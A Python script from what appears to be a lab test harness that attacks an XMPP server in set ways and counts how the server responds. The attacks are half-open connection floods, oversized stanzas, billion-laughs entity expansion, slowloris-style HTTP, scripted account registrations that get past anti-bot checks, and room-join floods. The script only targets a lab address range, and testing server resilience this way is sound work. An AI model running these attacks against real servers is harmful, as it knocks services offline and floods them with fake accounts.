#!/usr/bin/env python3
# Copyright (c) magicbroccoli contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks a host of the lab, within bounds of number and time: attacker.py KIND JOB. Prints what it has counted."""

from __future__ import annotations

import asyncio
import collections
import ipaddress
import json
import re
import resource
import ssl
import sys
import time
from urllib.parse import urlencode

OPEN = "<stream:stream to='{domain}' version='1.0' xmlns='{namespace}' xmlns:stream='http://etherx.jabber.org/streams'>"
# Nine levels, each ten times the one below.
ENTITIES = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
LAUGHS = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'ha'>{ENTITIES}]>"


def opening(job: dict, port: int) -> str:
    namespace = "jabber:server" if port == 5269 else "jabber:client"
    return OPEN.format(domain=job["domain"], namespace=namespace)


async def ending(reader: asyncio.StreamReader, seconds: float) -> str:
    """How the server ends a connection: the condition of its stream error, `closed`, or `open` when it does not."""
    text, end = b"", time.monotonic() + seconds
    try:
        while data := await asyncio.wait_for(reader.read(65536), max(end - time.monotonic(), 0.01)):
            text += data
    except TimeoutError:
        return "open"
    except (ConnectionError, ssl.SSLError):
        pass
    found = re.search(rb"<stream:error>\s*<([\w-]+)", text)
    return found[1].decode() if found else "closed"


async def connect(job: dict, port: int, tls: bool = False):
    options = {"ssl": ssl.create_default_context(), "server_hostname": job["domain"]} if tls else {}
    return await asyncio.wait_for(asyncio.open_connection(job["address"], port, **options), 20)


async def half_open(job: dict) -> dict:
    """Connections that begin a stream and never log in; how many there are at a time, and how they end."""
    counts: collections.Counter = collections.Counter()
    gate, held = asyncio.Semaphore(100), []

    async def one(number: int) -> None:
        port = (5222, 5269)[number % 2]
        async with gate:
            try:
                reader, writer = await connect(job, port)
            except (OSError, TimeoutError):
                counts["refused"] += 1
                return
            writer.write(opening(job, port).encode())
            held.append((reader, writer))

    await asyncio.gather(*(one(number) for number in range(job["count"])))
    counts["held"] = len(held)
    for how in await asyncio.gather(*(ending(reader, job["seconds"]) for reader, _ in held)):
        counts[how] += 1
    for _, writer in held:
        writer.transport.abort()
    return dict(counts)


async def oversized(job: dict) -> dict:
    """More than a server takes of somebody unknown, in one element."""
    counts: collections.Counter = collections.Counter()

    async def one(number: int) -> None:
        port = (5222, 5269)[number % 2]
        try:
            reader, writer = await connect(job, port)
        except (OSError, TimeoutError):
            counts["refused"] += 1
            return
        writer.write(opening(job, port).encode())
        end = asyncio.ensure_future(ending(reader, 20))
        try:
            writer.write(b"<message>")
            for _ in range(job["bytes"] // 1000):
                writer.write(b"<x y='%b'/>" % (b"z" * 990))
                await asyncio.wait_for(writer.drain(), 5)
        except (ConnectionError, TimeoutError):
            pass
        counts[await end] += 1
        writer.transport.abort()

    for begin in range(0, job["count"], 50):
        await asyncio.gather(*(one(number) for number in range(begin, min(begin + 50, job["count"]))))
    return dict(counts)


async def expansion(job: dict) -> dict:
    """XML whose entities would become a thousand million words."""
    counts: collections.Counter = collections.Counter()

    async def stream(port: int) -> None:
        reader, writer = await connect(job, port)
        writer.write((LAUGHS + opening(job, port) + "<message><body>&a9;</body></message>").encode())
        counts[f"{port}: {await ending(reader, 10)}"] += 1
        writer.transport.abort()

    async def bosh() -> None:
        reader, writer = await connect(job, 443, tls=True)
        body = f"{LAUGHS}<body xmlns='http://jabber.org/protocol/httpbind' rid='1' to='{job['domain']}'>&a9;</body>"
        lines = [
            "POST /http-bind HTTP/1.1",
            f"Host: {job['domain']}",
            f"Content-Length: {len(body)}",
            "Connection: close",
        ]
        writer.write(("\r\n".join([*lines, "", ""]) + body).encode())
        answer = await asyncio.wait_for(reader.read(), 10)
        status = answer.split(b" ", 2)[1].decode() if answer else "closed"
        condition = re.search(rb"condition=['\"]([\w-]+)", answer)
        counts[f"bosh: {status} {condition[1].decode() if condition else ''}".strip()] += 1
        writer.transport.abort()

    for _ in range(job["count"]):
        await asyncio.gather(stream(5222), stream(5269), bosh())
    return dict(counts)


async def slow(job: dict) -> dict:
    """HTTP requests that come a byte every other second, half of them in their header, half in their body."""
    counts: collections.Counter = collections.Counter()
    end = time.monotonic() + job["seconds"]
    gate = asyncio.Semaphore(50)

    async def one(number: int) -> None:
        try:
            async with gate:
                reader, writer = await connect(job, 443, tls=True)
        except (OSError, TimeoutError):
            counts["refused"] += 1
            return
        part = "header" if number % 2 else "body"
        head = f"POST /http-bind HTTP/1.1\r\nHost: {job['domain']}\r\nContent-Length: 5000\r\n"
        over = asyncio.ensure_future(ending(reader, job["seconds"]))
        try:
            writer.write(head.encode() + (b"X-Slow: " if part == "header" else b"\r\n"))
            while time.monotonic() < end and not over.done():
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(2)
        except (ConnectionError, ssl.SSLError):
            pass
        counts[f"{part}: {await over}"] += 1
        writer.transport.abort()

    await asyncio.gather(*(one(number) for number in range(job["count"])))
    return dict(counts)


async def registrations(job: dict) -> dict:
    """Accounts by the page, with the right answer each time."""
    counts: collections.Counter = collections.Counter()

    async def ask(lines: list[str], body: str = "") -> str:
        reader, writer = await connect(job, 443, tls=True)
        lines = [*lines, f"Host: {job['domain']}", "Connection: close", "", ""]
        writer.write(("\r\n".join(lines) + body).encode())
        answer = (await asyncio.wait_for(reader.read(), 20)).decode(errors="replace")
        writer.transport.abort()
        return answer

    async def one(number: int) -> None:
        page = await ask(["GET /register/ HTTP/1.1"])
        status = (page.split(" ", 2) + ["", "closed"])[1]
        cookies = "; ".join(re.findall(r"(?i)set-cookie: ([^;\r]+)", page))
        inputs = [dict(re.findall(r'(\w+)="([^"]*)"', tag)) for tag in re.findall(r"<input[^>]*>", page)]
        if status != "200" or not inputs:
            counts[f"page {status}"] += 1
            return
        fields = {field["name"]: field.get("value", "") for field in inputs if "name" in field}
        # A human takes longer than two seconds.
        await asyncio.sleep(2.5)
        password = f"long enough for bot {number}"
        fields |= {"name": f"pest{number}x{job['tail']}", "password": password, "again": password, "answer": "broccoli"}
        body = urlencode(fields)
        answer = await ask(
            [
                "POST /register/ HTTP/1.1",
                f"Cookie: {cookies}",
                "Content-Type: application/x-www-form-urlencoded",
                f"Content-Length: {len(body)}",
            ],
            body,
        )
        counts[f"account {(answer.split(' ', 2) + ['', 'closed'])[1]}"] += 1

    for begin in range(0, job["count"], 10):
        await asyncio.gather(*(one(number) for number in range(begin, begin + 10)))
        await asyncio.sleep(job["pause"])
    return dict(counts)


async def joins(job: dict) -> dict:
    """An account that enters one new room after the other."""
    sys.path.insert(0, "/usr/local/lib/world")
    from xmpp_client import Session, local

    session = await asyncio.to_thread(Session, job["account"])
    counts: collections.Counter = collections.Counter()
    presence = "<presence xmlns='jabber:client' to='flood{}x{}@conference.{}/me'><x xmlns='http://jabber.org/protocol/muc'/></presence>"

    # The connection is full duplex, but its TLS is not for two threads at a time: a hundred, then what has come.
    def flood() -> None:
        end = time.monotonic() + job["seconds"]
        for begin in range(0, job["count"], 100):
            numbers = range(begin, min(begin + 100, job["count"]))
            session.stream.send("".join(presence.format(n, job["tail"], job["domain"]) for n in numbers))
            session.stream.send(
                f"<iq xmlns='jabber:client' type='get' id='end{begin}'><ping xmlns='urn:xmpp:ping'/></iq>"
            )
            counts["sent"] += len(numbers)
            while time.monotonic() < end:
                stanza = session.stream.receive(max(end - time.monotonic(), 0.1))
                if stanza.get("id") == f"end{begin}":
                    break
                # A room has a presence of its own, with its picture.
                room, _slash, nick = (stanza.get("from") or "").partition("/")
                if local(stanza) != "presence" or "@conference." not in room or not nick:
                    continue
                conditions = [local(tag) for tag in stanza.iter() if "xmpp-stanzas" in tag.tag and local(tag) != "text"]
                counts[conditions[0] if conditions else "joined"] += 1

    await asyncio.to_thread(flood)
    return dict(counts)


def main() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (8000, 8000))
    kind, job = sys.argv[1], json.loads(sys.argv[2])
    if ipaddress.ip_address(job["address"]) not in ipaddress.ip_network("198.51.100.0/24"):
        sys.exit("only hosts of the lab are attacked")
    attacks = {attack.__name__: attack for attack in (half_open, oversized, expansion, slow, registrations, joins)}
    print(json.dumps(asyncio.run(attacks[kind](job))))


if __name__ == "__main__":
    main()
